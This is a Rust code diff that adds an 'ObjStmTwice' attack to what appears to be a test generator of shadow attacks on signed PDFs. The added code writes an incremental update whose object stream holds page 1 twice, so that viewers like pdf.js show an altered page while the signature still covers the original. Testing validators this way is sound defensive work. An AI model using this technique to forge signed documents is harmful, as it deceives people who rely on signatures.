@@ -59,6 +59,11 @@ pub enum Attack {
     /// Page 1's dictionary redefined inside an object stream (a dictionary
     /// may live in one) with a new /MediaBox.
     ObjStmPage,
+    /// An object stream of the update holds page 1 twice: the rewritten
+    /// dictionary at the index the cross-reference stream names (what
+    /// pdf.js reads), the signed one after it (what a parser keyed by
+    /// object number keeps).
+    ObjStmTwice,
     /// The update's cross-reference table lists the content stream twice:
     /// first the rewritten one (what pdf.js and poppler keep), then the
     /// signed revision's own offset.
@@ -112,7 +117,7 @@ pub enum Attack {
 }
 
 impl Attack {
-    pub const ALL: [Attack; 35] = [
+    pub const ALL: [Attack; 36] = [
         Attack::ContentsArrayAdd,
         Attack::XObjectForm,
         Attack::XObjectDict,
@@ -132,6 +137,7 @@ impl Attack {
         Attack::EmbeddedFile,
         Attack::ObjStmRedefine,
         Attack::ObjStmPage,
+        Attack::ObjStmTwice,
         Attack::DuplicateXrefEntry,
         Attack::TwiceInBody,
         Attack::GenerationMismatch,
@@ -818,6 +824,16 @@ pub fn attacked(spec: &DocSpec, time: DateTime<FixedOffset>, attack: Attack) -> 
                 approval_end,
             });
         }
+        Attack::ObjStmTwice => {
+            let mut p = page1.clone();
+            p.set("MediaBox", ints(&[0, 0, 595, 400]));
+            let (objstm, xref) = (alloc(), alloc());
+            let bytes = objstm_twice(pdf.bytes(), ids.page1, &p, &page1, objstm, xref, ids.root)?;
+            return Ok(Staged {
+                bytes,
+                approval_end,
+            });
+        }
         Attack::DuplicateXrefEntry | Attack::TwiceInBody | Attack::GenerationMismatch => {
             let bytes = raw_content_tricks(pdf.bytes(), &ids, &whited_out(&pdf, &ids)?, attack)?;
             return Ok(Staged {
@@ -1477,6 +1493,67 @@ fn twice_in_stream(bytes: &[u8], ids: &Ids, plain: &[u8], xs: u32) -> Result<Vec
             "{xs} 0 obj\n<</Type /XRef /Size {} /Root {} 0 R /Info 3 0 R /Prev {prev} /W [1 4 2] /Index [{c} 1 {c} 1 {xs} 1] /Length {}>>\nstream\n",
             xs + 1,
             ids.root,
+            data.len()
+        )
+        .as_bytes(),
+    );
+    out.extend_from_slice(&data);
+    out.extend_from_slice(format!("\nendstream\nendobj\nstartxref\n{xs_at}\n%%EOF\n").as_bytes());
+    Ok(out)
+}
+
+/// An object stream holding `page` twice (`shown` first, `signed` second),
+/// indexed by a cross-reference stream that names index 0.
+fn objstm_twice(
+    bytes: &[u8],
+    page: u32,
+    shown: &Dict,
+    signed: &Dict,
+    objstm: u32,
+    xref: u32,
+    root: u32,
+) -> Result<Vec<u8>> {
+    let prev = last_startxref(bytes)?;
+    let mut out = bytes.to_vec();
+    let (mut a, mut b) = (Vec::new(), Vec::new());
+    shown.write(&mut a);
+    signed.write(&mut b);
+    let head = format!("{page} 0 {page} {} ", a.len() + 1);
+    let mut content = head.clone().into_bytes();
+    content.extend_from_slice(&a);
+    content.push(b' ');
+    content.extend_from_slice(&b);
+    let at = out.len() as u32;
+    out.extend_from_slice(
+        format!(
+            "{objstm} 0 obj\n<</Type /ObjStm /N 2 /First {} /Length {}>>\nstream\n",
+            head.len(),
+            content.len()
+        )
+        .as_bytes(),
+    );
+    out.extend_from_slice(&content);
+    out.extend_from_slice(b"\nendstream\nendobj\n");
+    let xs_at = out.len() as u32;
+    let mut entries = vec![
+        (page, 2u8, objstm, 0u16),
+        (objstm, 1, at, 0),
+        (xref, 1, xs_at, 0),
+    ];
+    entries.sort();
+    let mut data = Vec::new();
+    let mut index = Vec::new();
+    for (id, t, f2, f3) in &entries {
+        index.push(format!("{id} 1"));
+        data.push(*t);
+        data.extend_from_slice(&f2.to_be_bytes());
+        data.extend_from_slice(&f3.to_be_bytes());
+    }
+    out.extend_from_slice(
+        format!(
+            "{xref} 0 obj\n<</Type /XRef /Size {} /Root {root} 0 R /Info 3 0 R /Prev {prev} /W [1 4 2] /Index [{}] /Length {}>>\nstream\n",
+            xref + 1,
+            index.join(" "),
             data.len()
         )
         .as_bytes(),
